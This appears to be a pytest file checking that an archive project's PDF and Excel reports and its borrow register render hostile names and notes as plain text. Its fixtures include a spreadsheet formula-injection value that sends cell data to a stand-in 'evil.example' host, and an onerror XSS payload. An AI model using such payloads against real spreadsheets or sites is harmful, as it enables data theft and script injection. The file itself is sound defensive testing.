"""Reports and the borrow register downloaded from the web with hostile text in them — a
worker named ``<img src=…>``, problem notes with an unclosed ``<b>``, ``A&B公司`` and
``=HYPERLINK(…)``: every PDF is built (no 500 for the whole project), shows the text as typed
and embeds no image; every workbook holds the notes as text, not formulas."""

from __future__ import annotations

import io
import subprocess
import tempfile
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path

import openpyxl
import pikepdf
import pytest
from fastapi.testclient import TestClient
from PIL import Image

from dangan.db.models import StageEvent
from dangan.domain import workflow as wf
from dangan.services.project import ProjectContext
from dangan.web.accounts import add_user
from dangan.web.app import create_app
from dangan.web.settings import WebSettings
from reports.helpers import Line as ReportLine
from reports.helpers import with_pay_rules
from web.support import PASSWORD, Clock, Line, login
from web.test_borrow_desk import _archivist, _more_volumes

FORMULA = '=HYPERLINK("http://evil.example/steal?"&B5,"详情")'


def _scan(tmp: Path) -> Path:
    path = tmp / "other-project" / "0001.jpg"
    path.parent.mkdir()
    Image.new("RGB", (60, 80), (10, 200, 10)).save(path, "JPEG")
    return path


def _pdf(data: bytes) -> str:
    with pikepdf.open(io.BytesIO(data)) as pdf:
        assert sum(len(page.get_images()) for page in pdf.pages) == 0
    text = subprocess.run(["pdftotext", "-", "-"], input=data, check=True,
                          capture_output=True).stdout.decode("utf-8")
    return "".join(text.split())


def _text_cells(data: bytes) -> dict[str, str]:
    book = openpyxl.load_workbook(io.BytesIO(data))
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    return {c.value: c.data_type for c in cells if isinstance(c.value, str)}


@pytest.fixture
def hostile(any_project: ProjectContext) -> Iterator[tuple[ProjectContext, str]]:
    ctx = with_pay_rules(any_project)
    # a worker's name holds at most 100 characters: the image lies at a short path
    with tempfile.TemporaryDirectory(prefix="m", dir="/tmp") as short:
        worker = f'<img src="{_scan(Path(short))}" width="300"/>'
        assert len(worker) <= 100
        yield from _hostile(ctx, worker)


def _hostile(ctx: ProjectContext, worker: str) -> Iterator[tuple[ProjectContext, str]]:
    line = ReportLine(ctx, volumes=2, pages=10)
    line.people(**{worker: [wf.SCAN_OPERATOR], "项经": [wf.PROJECT_MANAGER]})
    when = datetime.now(UTC) - timedelta(minutes=5)
    line.sign(worker, wf.SCAN, ["V1", "V2"], when)
    with ctx.transaction() as s:
        for note in ("<b>封面破损", "A&B公司 <u>", FORMULA):
            s.add(StageEvent(project_id=ctx.project_id, kind="borrow_problem", stage="borrow",
                             volume_id=line.volume_ids["V1"], person="项经", remarks=note,
                             at=when))
    add_user(ctx, "manager", PASSWORD, worker="项经", roles=[wf.PROJECT_MANAGER])
    yield ctx, worker


@pytest.fixture
def client(hostile: tuple[ProjectContext, str]) -> Iterator[TestClient]:
    app = create_app(WebSettings(project=hostile[0].home, clock=Clock()))
    with TestClient(app, base_url="http://testserver", follow_redirects=False) as c:
        yield c


def test_reports_with_markup_in_names_and_notes(client: TestClient,
                                                hostile: tuple[ProjectContext, str]) -> None:
    worker = "".join(hostile[1].split())
    login(client, "manager")
    weekly = client.get("/dashboard/reports/weekly.pdf")
    assert weekly.status_code == 200, weekly.text[:300]
    text = _pdf(weekly.content)
    for literal in ("<b>封面破损", "A&B公司<u>", "=HYPERLINK("):
        assert literal in text, literal
    productivity = client.get("/dashboard/reports/productivity.pdf")
    assert productivity.status_code == 200, productivity.text[:300]
    assert worker[:20] in _pdf(productivity.content)
    cells = _text_cells(client.get("/dashboard/reports/weekly.xlsx").content)
    assert cells.get(FORMULA) == "s", cells


def test_borrow_register_with_markup_in_a_problem(app_client: TestClient, line: Line,
                                                  tmp_path: Path) -> None:
    _archivist(line)
    codes = _more_volumes(line, 2, title="=1+1")
    token = login(app_client, "clerk")
    created = app_client.post("/borrow", data={"csrf_token": token, "codes": codes})
    url = created.headers["location"]
    for problem in (f'<img src="{_scan(tmp_path)}" width="300" height="420"/>',
                    "<img src=x onerror=alert(1)>", "<b>未闭合 A&B公司", FORMULA):
        noted = app_client.post(f"{url}/problem", data={"csrf_token": token,
                                                        "archive_code": codes[0],
                                                        "problem": problem})
        assert noted.status_code == 303, noted.text
    for name in ("register.pdf", "return-list.pdf"):
        got = app_client.get(f"{url}/{name}")
        assert got.status_code == 200, (name, got.text[:300])
        text = _pdf(got.content)
        assert "<b>未闭合A&B公司" in text and "<imgsrc=xonerror=alert(1)>" in text, text
    for name in ("register.xlsx", "return-list.xlsx"):
        cells = _text_cells(app_client.get(f"{url}/{name}").content)
        formulas = {v: t for v, t in cells.items() if v.startswith("=")}
        assert "=1+1100" in formulas and any(FORMULA in v for v in cells), cells  # title, note
        assert set(formulas.values()) == {"s"}, formulas
